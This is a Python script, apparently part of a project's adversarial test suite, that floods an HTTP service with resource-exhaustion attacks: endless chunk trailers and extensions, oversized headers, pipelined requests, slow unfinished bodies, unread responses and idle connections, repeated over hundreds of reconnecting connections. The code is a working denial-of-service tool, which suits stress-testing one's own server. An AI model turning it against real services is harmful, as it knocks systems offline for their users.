"""Attack a service with connections that each try to make it hold memory, or to keep others out.

    python -m tests.adversary.attack 127.0.0.1 8000 "endless trailers" --connections 500 --seconds 5

Each attack needs no key. A connection that is closed is opened again. ``mixture`` takes one of the
attacks for each connection, by chance.
"""

import argparse
import asyncio
import os
import random
import ssl
import threading
from collections.abc import Awaitable, Callable
from contextlib import suppress

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
START = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
POST = b"POST /classify HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"


def _endless(start: bytes, repeated: bytes) -> Attack:
    async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(start)
        while True:
            writer.write(repeated)
            await writer.drain()

    return attack


def _held(start: bytes) -> Attack:
    async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(start)
        await writer.drain()
        while await reader.read(65536):
            pass

    return attack


def _unread(start: bytes) -> Attack:
    async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(start)
        await asyncio.sleep(3600)

    return attack


ATTACKS = {
    "endless trailers": _endless(CHUNKED + b"0\r\n", b"a:b\r\n" * 4000),
    "endless chunk extension": _endless(CHUNKED + b"1;", b"x" * 65536),
    "chunk extensions": _endless(CHUNKED, b"1;" + b"x" * 20_000 + b"\r\n \r\n"),
    "endless head": _endless(START, b"X-Filler: " + b"x" * 1000 + b"\r\n"),
    "pipelined requests": _endless(b"", (START + b"\r\n") * 2000),
    "tiny headers": _held(START + b"a:b\r\n" * 6500),
    "as many headers as are taken": _held(START + b"a:b\r\n" * 98),
    "as long a head as is taken": _held(START + b"X-Filler: " + b"x" * 32_000),
    "unfinished bodies": _held(POST + b"Content-Length: 250000\r\n\r\n" + b" " * 249_000),
    "unread answers": _unread((b"GET /openapi.json" + START[12:] + b"\r\n") * 60),
    "idle connections": _held(b""),
}


async def attack(
    host: str, port: int, name: str, connections: int, tls: ssl.SSLContext | None
) -> None:
    """Attack until cancelled."""

    async def connect_again_and_again() -> None:
        while True:
            chosen = random.choice(list(ATTACKS)) if name == "mixture" else name
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout(60):
                    reader, writer = await asyncio.open_connection(host, port, ssl=tls)
                try:
                    await ATTACKS[chosen](reader, writer)
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0)

    async with asyncio.TaskGroup() as tasks:
        for _ in range(connections):
            tasks.create_task(connect_again_and_again())


def main() -> None:
    """Read the arguments and attack."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("attack", choices=[*ATTACKS, "mixture"])
    parser.add_argument("--connections", type=int, default=500)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--tls", action="store_true")
    given = parser.parse_args()
    context = None
    if given.tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    # Not by cancelling: a connection may not be willing to end.
    threading.Timer(given.seconds, os._exit, [0]).start()
    asyncio.run(attack(given.host, given.port, given.attack, given.connections, context))


if __name__ == "__main__":
    main()
